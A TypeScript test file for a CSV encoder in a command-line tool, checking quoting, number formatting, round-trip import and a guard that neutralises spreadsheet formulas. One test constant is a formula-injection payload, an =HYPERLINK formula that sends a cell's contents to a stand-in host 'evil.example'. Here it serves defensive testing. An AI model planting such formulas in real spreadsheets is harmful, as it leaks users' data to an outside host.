// One CSV encoder for every CSV civsam writes: reports and overviews (`--format csv`), record
// exports, and the import's rejected-rows file, each with the same quoting, byte-order mark and
// formula guard (a cell Excel would run as a formula gets a leading apostrophe).
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { sheetFromCsv } from '../../src/spreadsheets/import/sheet.js';
import { csvField, encodeCsv } from '../../src/output/csv.js';
import { renderCsv } from '../../src/output/table.js';
import { sheetToCsv } from '../../src/spreadsheets/export/files.js';
import { baseFiles, makeFolder } from '../helpers/folder.js';
import { civsam } from '../helpers/cli.js';

const LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")';
const GUARDED = `"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Klik"")"`;

describe('encodeCsv', () => {
  it('guards formulas, quotes what must be quoted, and writes numbers as numbers', async () => {
    const da = { delimiter: ';' as const, lang: 'da' as const };
    expect(csvField(LINK, da)).toBe(GUARDED);
    expect(csvField('+45 12 34 56 78', da)).toBe("'+45 12 34 56 78");
    expect(csvField('-x', da)).toBe("'-x");
    expect(csvField('@SUM(A1)', da)).toBe("'@SUM(A1)");
    expect(csvField("'=1", da)).toBe("''=1"); // the import takes one apostrophe off again
    expect(csvField('\tx', da)).toBe(`"'\tx"`);
    expect(csvField('a;b', da)).toBe('"a;b"');
    expect(csvField('a,b', da)).toBe('"a,b"');
    expect(csvField(' a', da)).toBe('" a"');
    expect(csvField('two\nlines', da)).toBe('"two\nlines"');
    expect(csvField(-1.5, da)).toBe('-1,5');
    expect(csvField(-1.5, { delimiter: ',', lang: 'da' })).toBe('"-1,5"');
    expect(csvField(-1.5, { delimiter: ',', lang: 'en' })).toBe('-1.5');
    expect(encodeCsv([['a', 'b'], [1, '=x']], { delimiter: '\t', lang: 'en' })).toBe("\uFEFFa\tb\r\n1\t'=x\r\n");
  });

  it('is the encoder of reports and of record exports', async () => {
    const table = { columns: [{ header: 'Navn' }, { header: 'Beløb' }], rows: [[LINK, { text: '1.250 kr.', value: 1250 }]] };
    expect(renderCsv([table], 'da')).toBe(`\uFEFFNavn;Beløb\r\n${GUARDED};1250\r\n`);
    expect(sheetToCsv({ name: 'x', headers: ['navn', 'noter'], rows: [['Alpha', LINK]] }, 'en')).toBe(`\uFEFFnavn,noter\r\nAlpha,${GUARDED}\r\n`);
  });
});

describe('encodeCsv and the import', () => {
  // What the rejected-rows file relies on: whatever a cell held, with any of the three separators,
  // reading the file back gives the cell again (the formula guard's apostrophe taken off).
  const cell = fc.tuple(fc.constantFrom('', "'", '=', '+', '-', '@', "''=", ' ', '"', '\t'), fc.string({ unit: 'grapheme', maxLength: 20 }))
    .map(([start, s]) => (start + s).replace(/[\r\u0000]/g, ''));
  it('gives every cell back, whatever the separator', async () => {
    fc.assert(fc.property(fc.constantFrom(',' as const, ';' as const, '\t' as const), fc.array(cell, { minLength: 2, maxLength: 5 }), (delimiter, cells) => {
      fc.pre(cells.some((c) => c !== ''));
      const text = encodeCsv([cells.map((_, i) => `h${i}`), cells], { delimiter, lang: 'da' });
      expect(sheetFromCsv(new TextEncoder().encode(text)).rows[0].cells).toEqual(cells);
    }), { numRuns: 300, seed: 20261206 });
  });
});

describe('import --skip-invalid', () => {
  it('writes the rejected rows with the formula guard, in the file the user is told to open', async () => {
    const dir = makeFolder({ ...baseFiles() });
    // The sheet sits outside the data folder: civsam refuses to write the rejected rows inside it.
    const sheets = mkdtempSync(join(tmpdir(), 'civsam-sheets-'));
    const input = join(sheets, 'ind.csv');
    const csv = ['navn;type;områder;status;kommuner;noter', `Beta Forening;ukendt;psykiatri;aktiv;Aarhus;"${LINK.replace(/"/g, '""')}"`, 'Gamma Forening;other;psykiatri;aktiv;Aarhus;ok', ''].join('\r\n');
    writeFileSync(input, csv);
    const r = await civsam(['--lang', 'da', 'import', 'organisations', input, '--skip-invalid', '--no-commit', '--data', dir]);
    expect(r.code).toBe(1);
    const rejected = readFileSync(join(sheets, 'ind.rejected.csv'), 'utf8');
    const lines = rejected.split('\r\n');
    expect(lines[0]).toBe('\uFEFFnavn;type;områder;status;kommuner;noter;problem');
    expect(lines[1].startsWith(`Beta Forening;ukendt;psykiatri;aktiv;Aarhus;${GUARDED};"række 2, kolonne B (type): `)).toBe(true);
    expect(lines.length).toBe(3);
    expect(lines[2]).toBe('');
  });
});
